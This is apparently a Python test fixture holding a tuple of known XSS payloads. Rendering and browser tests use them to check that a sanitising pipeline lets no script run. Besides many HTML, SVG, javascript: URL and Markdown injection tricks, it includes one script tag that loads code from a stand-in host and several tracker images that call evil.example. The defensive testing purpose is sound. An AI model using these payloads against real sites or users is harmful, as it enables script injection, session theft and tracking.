"""Known XSS payloads, each of which sets `window.__xss` or opens a dialog if it runs.

Used by the rendering tests (nothing active survives the pipeline) and by the browser
test (an article made of them runs no script in Chromium).
"""

XSS_PAYLOADS = (
    # Script elements, plain and obfuscated
    "<script>window.__xss = 1</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>window.__xss = 1</scr</script>ipt>",
    "<![CDATA[<script>window.__xss = 1</script>]]>",
    # Event handlers
    '<img src=x onerror="window.__xss = 1">',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<video><source onerror="window.__xss = 1"></video>',
    "<x onclick=window.__xss=1>click me</x>",
    '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>',
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss = 1</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    # Frames, objects, forms, document-level tags
    '<iframe src="javascript:window.__xss = 1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
    '<object data="javascript:window.__xss = 1"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    # Broken markup and comment tricks
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<a href="javascript:window.__xss = 1"',
    "<img src='x' onerror='window.__xss = 1'",
    # HTML entities
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">entities</a>',
    "&lt;script&gt;window.__xss = 1&lt;/script&gt;",
    '<a href=" &#14;javascript:alert(1)">control character</a>',
    # Markdown link tricks
    "[click me](javascript:window.__xss=1)",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](javascript&colon;alert(1))",
    "[click me](java&#x09;script:alert(1))",
    "[click me](vbscript:msgbox(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](<javascript:alert(1)>)",
    "[reference link][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[title trick](https://ok.example "x\\" onmouseover=\\"window.__xss=1")',
    # Markdown image tricks
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![pic](x" onerror="window.__xss=1)',
    "![tracker](https://evil.example/pixel.png)",
    "![tracker](//evil.example/pixel.png)",
    "![tracker](/\\evil.example/pixel.png)",
    "![tracker](http:evil.example/pixel.png)",
)
